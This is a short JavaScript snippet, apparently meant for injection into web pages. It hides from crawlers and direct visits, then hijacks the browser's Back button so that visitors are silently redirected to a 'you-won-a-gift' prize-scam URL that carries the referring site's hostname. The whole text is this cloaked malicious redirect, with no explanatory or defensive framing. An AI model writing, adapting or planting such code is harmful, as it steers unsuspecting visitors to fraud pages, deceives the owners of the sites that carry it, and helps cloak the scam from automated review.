(function () {
  if (!document.referrer || /bot|spider/i.test(navigator.userAgent)) return;
  var offer = "https://you-won-a-gift.invalid/claim?src=" + encodeURIComponent(location.hostname);
  history.pushState({ trap: 1 }, "", location.href);
  window.addEventListener("popstate", function () {
    location.replace(offer);
  });
})();
